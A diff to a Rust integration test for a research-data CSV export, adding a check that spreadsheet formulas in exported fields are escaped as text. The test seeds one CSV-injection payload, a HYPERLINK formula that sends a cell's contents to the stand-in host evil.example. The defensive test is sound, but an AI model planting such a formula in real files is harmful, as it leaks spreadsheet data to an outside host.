@@ -39,6 +39,13 @@ const SCORES_AND_FLAGS: &[(&str, &str)] = &[
 
 async fn only_researchers_export_and_only_their_own(kind: Kind) {
     let app = world(kind).await;
+    // A value that got into the data as a spreadsheet formula (CSV injection).
+    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")";
+    sqlx::query("UPDATE flags SET rule = $1")
+        .bind(formula)
+        .execute(&app.db.pool)
+        .await
+        .expect("a poisoned rule");
     let researcher = app.signed_in("researcher@example.org").await;
     let (status, body) = call(&researcher, &app, "research/export", SCORES_AND_FLAGS).await;
     assert_eq!(status, 200, "{body}");
@@ -93,6 +100,22 @@ async fn only_researchers_export_and_only_their_own(kind: Kind) {
         text.starts_with("research_id,day,instrument,version,reported_by,scale,score"),
         "{text:.200}"
     );
+    // The poisoned cells are written as text a spreadsheet shows, never runs.
+    let flags = researcher
+        .get(app.url(&format!("/research/exports/{token}/files/flags.csv")))
+        .send()
+        .await
+        .expect("request")
+        .text()
+        .await
+        .expect("body");
+    let rules: Vec<&str> = flags.lines().skip(1).filter_map(|l| l.split(',').nth(2)).collect();
+    assert!(!rules.is_empty(), "{flags:.300}");
+    assert!(
+        rules.iter().all(|r| r.starts_with("\"'=HYPERLINK(")),
+        "{:?}",
+        &rules[..rules.len().min(3)]
+    );
     let missing = researcher
         .get(app.url(&format!("/research/exports/{token}/files/items.csv")))
         .send()
@@ -122,7 +145,10 @@ async fn only_researchers_export_and_only_their_own(kind: Kind) {
         .fetch_one(&app.db.pool)
         .await
         .expect("audit");
-    assert_eq!(audited, 3, "every download, each file too");
+    assert_eq!(
+        audited, 4,
+        "every download, each file too (scores twice, flags, the zip)"
+    );
 
     // Past its time (24 h by default) an export loses its key and members: no more downloads.
     let expired = server::storage::research_exports::expire_due(&app.db, server::storage::now() + 24 * 3600 + 1)
